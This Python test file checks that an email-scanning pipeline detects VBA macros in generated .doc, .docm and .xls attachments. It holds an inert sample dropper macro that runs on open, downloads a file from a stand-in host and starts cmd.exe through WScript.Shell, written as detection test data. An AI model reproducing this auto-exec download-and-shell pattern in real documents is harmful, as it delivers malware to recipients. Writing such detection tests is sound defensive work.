"""Real VBA documents (built by office_builders, read by oletools) through Skeptic and the
whole pipeline: the macro rules judged on what olevba decompresses, not on hand-fed source."""

from __future__ import annotations

import dataclasses
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

import olefile
import pytest
from office_builders import (
    Module,
    cfb,
    doc,
    docm,
    docx,
    excel_modules,
    ovba_compress,
    vba_project,
    vba_project_bin,
    word_modules,
    xls,
)
from pipeline_fixtures import with_attachment

from mailtower.scanning.engines import Finding
from mailtower.scanning.engines.yara import YaraEngine, default_rule_dirs
from mailtower.scanning.objects import Analysis, ScanObject
from mailtower.scanning.pipeline import Pipeline, in_process
from mailtower.scanning.scan import Kind
from mailtower.scanning.skeptic import Skeptic
from mailtower.scanning.skeptic._office import macros

with warnings.catch_warnings():  # oletools 0.60 trips pyparsing deprecation warnings
    warnings.simplefilter("ignore", DeprecationWarning)
    from oletools.olevba import VBA_Parser, decompress_stream

# Runs on open, downloads, and starts a shell: the classic dropper (inert: example.invalid).
DROPPER = """\
Sub AutoOpen()
    Dim target As String
    target = Environ("TEMP") & "\\update.txt"
    URLDownloadToFile 0, "http://example.invalid/update.txt", target, 0, 0
    Set sh = CreateObject("WScript.Shell")
    sh.Run "cmd.exe /c type " & target, 0
End Sub
"""
WORKBOOK_DROPPER = DROPPER.replace("Sub AutoOpen()", "Private Sub Workbook_Open()")
# Formats a document when the user runs it: no auto-exec, no shell, no network.
HARMLESS = """\
Sub FormatReport()
    Selection.WholeStory
    Selection.Font.Name = "Calibri"
    MsgBox "Report formatted"
End Sub
"""
# A shell, but only behind a button: informational by design (skeptic.macro.shell-download).
BUTTON = """\
Sub ExportButton_Click()
    Shell "notepad.exe"
End Sub
"""
# Runs on open but only fills a sheet with a dictionary's help: no behaviour rule matches.
REPORT = """\
Private Sub Workbook_Open()
    Dim totals As Object
    Set totals = CreateObject("Scripting.Dictionary")
    Worksheets("Summary").Range("A1").Value = "Monthly report"
End Sub
"""

DOC = "application/msword"
DOCM = "application/vnd.ms-word.document.macroEnabled.12"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLS = "application/vnd.ms-excel"

# name → (build from VBA code, file name, declared type)
DOCUMENTS: dict[str, tuple[Callable[[str], bytes], str, str]] = {
    "doc": (lambda code: doc(word_modules(code)), "minutes.doc", DOC),
    "docm": (lambda code: docm(word_modules(code)), "minutes.docm", DOCM),
    "xls": (lambda code: xls(excel_modules(code)), "figures.xls", XLS),
}


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return in_process()


# -- the builders produce what oletools reads ---------------------------------------------------


@pytest.mark.parametrize("size", [0, 1, 8, 9, 100, 3640, 4096, 4097, 4096 + 3640, 3 * 4096])
def test_ovba_compression_round_trips_through_olevba(size: int) -> None:
    data = bytes((i * 7 + i // 13) % 251 for i in range(size))
    assert decompress_stream(bytearray(ovba_compress(data))) == data


def test_ovba_compression_refuses_a_last_chunk_it_cannot_write() -> None:
    with pytest.raises(ValueError, match="copy tokens"):
        ovba_compress(b"x" * 3641)


@pytest.mark.parametrize("size", [0, 1, 63, 64, 65, 4095, 4096, 4097, 70_000])
def test_compound_file_streams_round_trip_through_olefile(size: int) -> None:
    # Below 4096 bytes streams live in the mini stream, from 4096 on in the FAT: both paths,
    # next to streams of the other kind, under nested storages.
    streams = {
        "Top": bytes(range(256)) * 20,
        "A/B/Small": b"small stream",
        "A/Probe": bytes(i % 253 for i in range(size)),
        "A/B/C/Deep": b"d" * 5000,
    }
    ole = olefile.OleFileIO(io.BytesIO(cfb(streams)), raise_defects=olefile.DEFECT_INCORRECT)
    for path, data in streams.items():
        assert ole.openstream(path).read() == data, path


def test_compound_file_siblings_form_a_red_black_tree() -> None:
    # olefile does not check it; MS-CFB requires it of every storage's children.
    streams = {f"S/Stream{n:02}": b"x" * n for n in range(1, 30)} | {"Root1": b"r"}
    ole = olefile.OleFileIO(io.BytesIO(cfb(streams)))
    red, black = 0, 1  # MS-CFB 2.6.1 color flags

    def black_height(sid: int, parent_red: bool = False) -> int:
        if sid == olefile.NOSTREAM:
            return 1
        entry = ole.direntries[sid]
        is_red = entry.color == red
        assert not (is_red and parent_red), f"red {entry.name} under a red parent"
        left = black_height(entry.sid_left, is_red)
        assert left == black_height(entry.sid_right, is_red), f"unbalanced under {entry.name}"
        if entry.sid_child != olefile.NOSTREAM:
            assert ole.direntries[entry.sid_child].color == black  # a tree's root is black
            black_height(entry.sid_child)
        return left + (not is_red)

    black_height(ole.root.sid_child)


@pytest.mark.parametrize(
    ("build", "modules"),
    [
        (doc, word_modules(DROPPER)),
        (xls, excel_modules(WORKBOOK_DROPPER)),
        (docm, word_modules(DROPPER)),
        (vba_project_bin, [Module("Module1", HARMLESS), Module("Module2", BUTTON)]),
    ],
    ids=["doc", "xls", "docm", "vbaProject.bin"],
)
def test_olevba_extracts_every_module_source(
    build: Callable[[list[Module]], bytes], modules: list[Module]
) -> None:
    # relaxed=False: olevba raises on any dir-stream value that breaks MS-OVBA.
    parser = VBA_Parser("generated", data=build(modules), relaxed=False)
    try:
        assert parser.detect_vba_macros()
        extracted = {
            vba_filename.rsplit(".", 1)[0]: code
            for _, _, vba_filename, code in parser.extract_macros()
        }
    finally:
        parser.close()
    assert extracted == {module.name: module.source for module in modules}


def test_a_long_module_spans_raw_chunks() -> None:
    code = "".join(f'Sub Step{n}()\n    MsgBox "step {n}"\nEnd Sub\n' for n in range(300))
    result = macros(doc(word_modules(code)))
    assert result.status == "found"
    assert 'MsgBox "step 299"' in result.source
    assert len(result.source) > 3 * 4096


def test_documents_without_a_vba_project_have_no_macros() -> None:
    assert macros(doc()).status == "none"
    assert macros(xls()).status == "none"
    assert macros(docx()).status == "none"


# -- Skeptic on broken projects -----------------------------------------------------------------


def _unreadable_project(code: str) -> bytes:
    """A .doc whose VBA project olevba finds but cannot read: its dir stream is cut short, and
    the module's source lacks the "Attribute" lines olevba's fallback scan looks for."""
    streams = vba_project([Module("Module1", code)], "Macros")
    streams["Macros/VBA/Module1"] = streams["Macros/VBA/Module1"][:64] + ovba_compress(
        code.encode()
    )
    streams["Macros/VBA/dir"] = ovba_compress(decompress_stream(streams["Macros/VBA/dir"])[:150])
    streams["WordDocument"] = bytes(4096)
    return cfb(streams)


def test_vba_project_whose_modules_cannot_be_read_is_unanalysable() -> None:
    # olevba logs and swallows the dir stream's error, and reported "found" with no source:
    # only skeptic.macro.present (informational), so the mail passed.
    result = macros(_unreadable_project('Sub AutoOpen()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'))
    assert result.status == "unanalysable", result


def test_vba_project_whose_modules_cannot_be_read_makes_mail_suspicious(
    pipeline: Pipeline,
) -> None:
    data = _unreadable_project('Sub Tidy()\r\n    MsgBox "ok"\r\nEnd Sub\r\n')
    verdict = pipeline.scan(with_attachment(data, "notes.doc", DOC))
    assert verdict.kind is Kind.SUSPICIOUS, verdict.reason
    assert Finding("skeptic", "skeptic.macro.unanalysable", "2") in verdict.findings


def _corrupt_deflate(archive: bytes, member: str) -> bytes:
    """``archive`` with ``member``'s deflate data replaced by a reserved block type: zipfile
    opens the archive and fails only when the member is read (zlib.error)."""
    at = archive.index(b"PK\x03\x04" + archive[4:8])  # the first local header
    for _ in range(archive.count(b"PK\x03\x04")):
        name_len, extra_len = struct.unpack_from("<HH", archive, at + 26)
        size = struct.unpack_from("<I", archive, at + 18)[0]
        data = at + 30 + name_len + extra_len
        if archive[at + 30 : at + 30 + name_len] == member.encode():
            return archive[:data] + b"\xff" * size + archive[data + size :]
        at = data + size
    raise AssertionError(f"{member} not in the archive")


@pytest.mark.parametrize(
    ("document", "member", "expected"),
    [
        # No VBA claimed: a broken archive is the container stage's to report.
        (docx(), "word/_rels/document.xml.rels", set()),
        # A macro document that cannot be read whole: fail closed, as for any unreadable project.
        (docm(word_modules(HARMLESS)), "word/_rels/document.xml.rels", {"unanalysable"}),
        (docm(word_modules(HARMLESS)), "word/vbaProject.bin", {"unanalysable"}),
    ],
    ids=["docx-rels", "docm-rels", "docm-project"],
)
def test_zip_with_corrupt_deflate_data_is_not_an_internal_error(
    document: bytes, member: str, expected: set[str]
) -> None:
    # Found by test_pipeline_properties: zlib.error escaped Skeptic's zip readers (macros and
    # remote templates), and the engine's safety net reported skeptic.internal-error instead.
    archive = _corrupt_deflate(document, member)
    with zipfile.ZipFile(io.BytesIO(archive)) as opened, pytest.raises(zlib.error):
        opened.read(member)
    skeptic = Skeptic.from_rules()
    obj = ScanObject(archive, "2", frozenset({"minutes.docm"}), frozenset(), frozenset())
    found = {f.name for f in skeptic.hostile(skeptic.examine(Analysis([obj], [])))}
    assert found == {f"skeptic.macro.{name}" for name in expected}


# -- the pipeline -------------------------------------------------------------------------------


def names(findings: tuple[Finding, ...]) -> set[str]:
    return {f.name for f in findings}


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_auto_exec_dropper_is_suspicious(pipeline: Pipeline, kind: str) -> None:
    build, filename, ctype = DOCUMENTS[kind]
    code = WORKBOOK_DROPPER if kind == "xls" else DROPPER
    verdict = pipeline.scan(with_attachment(build(code), filename, ctype))
    assert verdict.kind is Kind.SUSPICIOUS, verdict.reason
    assert Finding("skeptic", "skeptic.macro.autoexec-shell", "2") in verdict.findings
    assert "skeptic.macro.present" in names(verdict.findings)
    if kind == "docm":  # the zip is opened too: its project is judged on its own
        member = "2!word/vbaProject.bin"
        assert Finding("skeptic", "skeptic.macro.autoexec-shell", member) in verdict.findings


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_macro_without_auto_exec_or_behaviour_is_clean(pipeline: Pipeline, kind: str) -> None:
    build, filename, ctype = DOCUMENTS[kind]
    verdict = pipeline.scan(with_attachment(build(HARMLESS), filename, ctype))
    assert verdict.kind is Kind.CLEAN, verdict.reason
    # Recorded for the policy layer, never decisive.
    assert names(verdict.findings) == {"skeptic.macro.present"}


def test_shell_behind_a_button_is_clean_and_recorded(pipeline: Pipeline) -> None:
    verdict = pipeline.scan(with_attachment(doc(word_modules(BUTTON)), "tool.doc", DOC))
    assert verdict.kind is Kind.CLEAN, verdict.reason
    assert names(verdict.findings) == {"skeptic.macro.present", "skeptic.macro.shell-download"}


def test_auto_exec_report_macro_without_behaviour_is_clean(pipeline: Pipeline) -> None:
    verdict = pipeline.scan(with_attachment(xls(excel_modules(REPORT)), "report.xls", XLS))
    assert verdict.kind is Kind.CLEAN, verdict.reason
    assert names(verdict.findings) == {"skeptic.macro.present"}


@pytest.mark.parametrize(
    ("data", "filename", "ctype"),
    [(docx(), "minutes.docx", DOCX), (doc(), "minutes.doc", DOC), (xls(), "figures.xls", XLS)],
    ids=["docx", "doc", "xls"],
)
def test_documents_without_macros_are_clean(
    pipeline: Pipeline, data: bytes, filename: str, ctype: str
) -> None:
    verdict = pipeline.scan(with_attachment(data, filename, ctype))
    assert verdict.kind is Kind.CLEAN, verdict.reason
    assert verdict.findings == ()


def test_yara_macro_rule_sees_compressed_vba_at_any_alignment(pipeline: Pipeline) -> None:
    """MS-OVBA compression puts a flag byte before every 8 tokens, so in the document itself
    'AutoOpen' or 'Shell' is only seen when it happens to fall inside one group. The pipeline
    hands the object engines the source olevba reads, so the rule holds at every alignment."""
    engine = YaraEngine(list(default_rule_dirs()))
    in_document, in_pipeline = [], []
    for shift in range(8):  # a comment line of 0..7 letters moves the code within the groups
        data = doc(word_modules(f"' {'x' * shift}\n{DROPPER}"))
        obj = ScanObject(data, "2", frozenset(), frozenset(), frozenset())
        found = {f.name for f in engine.scan_objects([obj])}
        in_document.append("Mailtower_Office_AutoExec_Shell_Macro" in found)
        verdict = pipeline.scan(with_attachment(data, "minutes.doc", DOC))
        yara = {(f.name, f.part) for f in verdict.findings if f.engine == "yara"}
        in_pipeline.append(("Mailtower_Office_AutoExec_Shell_Macro", "2!vba") in yara)
    assert not all(in_document), "the compressed form alone no longer hides it: test moot"
    assert all(in_pipeline), in_pipeline


def harmless_doc_mail() -> bytes:
    """A message carrying a .doc whose macro does nothing hostile."""
    return with_attachment(doc(word_modules(HARMLESS)), "minutes.doc", DOC)


def test_vba_source_over_the_byte_limit_is_cut_and_suspicious() -> None:
    """An MS-OVBA bomb: its source is cut at the container stage's byte limit, and the cut is a
    limit finding on the source's path (over a limit is never clean)."""
    small = in_process()
    small.container_limits = dataclasses.replace(small.container_limits, max_expanded_bytes=64)
    verdict = small.scan(harmless_doc_mail())
    assert verdict.kind is Kind.SUSPICIOUS
    assert Finding("container", "container.limit-exceeded:bytes", "2!vba") in verdict.findings


def test_olevba_reads_a_document_once_for_the_engines_and_skeptic(
    pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    import oletools.olevba

    from mailtower.scanning.skeptic import _office

    opened: list[int] = []
    real = oletools.olevba.VBA_Parser

    def counting(*args: object, **kwargs: object) -> object:
        opened.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(oletools.olevba, "VBA_Parser", counting)
    _office.forget_read_vba()
    verdict = pipeline.scan(with_attachment(doc(word_modules(DROPPER)), "minutes.doc", DOC))
    assert ("yara", "2!vba") in {(f.engine, f.part) for f in verdict.findings}
    assert "skeptic.macro.present" in {f.name for f in verdict.findings}
    assert len(opened) == 1


def test_vba_source_with_lone_surrogates_is_scanned_not_raised(
    pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A module in a code page that decodes to a lone surrogate (UTF-7, code page 65000) must not
    make scan() raise: the source is handed on as it encodes."""
    from mailtower.scanning import pipeline as pipeline_mod

    source = 'Attribute VB_Name = "A"\nSub AutoOpen()\n  Shell "x" \' \ud800\nEnd Sub\n'
    monkeypatch.setattr(
        pipeline_mod, "vba_sources", lambda data: [source] if b"\xd0\xcf" in data[:2] else []
    )
    verdict = pipeline.scan(harmless_doc_mail())
    assert ("Mailtower_Office_AutoExec_Shell_Macro", "2!vba") in {
        (f.name, f.part) for f in verdict.findings
    }


def test_vba_reading_that_fails_is_suspicious_not_a_crash(
    pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mailtower.scanning import pipeline as pipeline_mod

    def broken(data: bytes) -> list[str]:
        raise RuntimeError("olevba bug")

    monkeypatch.setattr(pipeline_mod, "vba_sources", broken)
    verdict = pipeline.scan(harmless_doc_mail())
    assert verdict.kind is Kind.SUSPICIOUS
    assert Finding("container", "container.corrupt", "2!vba") in verdict.findings


def test_a_vba_source_over_the_limit_is_unanalysable_and_kept_by_nobody(
    pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An MS-OVBA bomb: a source over MAX_VBA_SOURCE fails closed (Skeptic's unanalysable
    rule) and is handed to no engine."""
    from mailtower.scanning.skeptic import _office

    monkeypatch.setattr(_office, "MAX_VBA_SOURCE", 50)
    _office.forget_read_vba()
    verdict = pipeline.scan(harmless_doc_mail())
    _office.forget_read_vba()
    assert verdict.kind is Kind.SUSPICIOUS
    assert "skeptic.macro.unanalysable" in {f.name for f in verdict.findings}
    assert not [f for f in verdict.findings if f.part and f.part.endswith("!vba")]
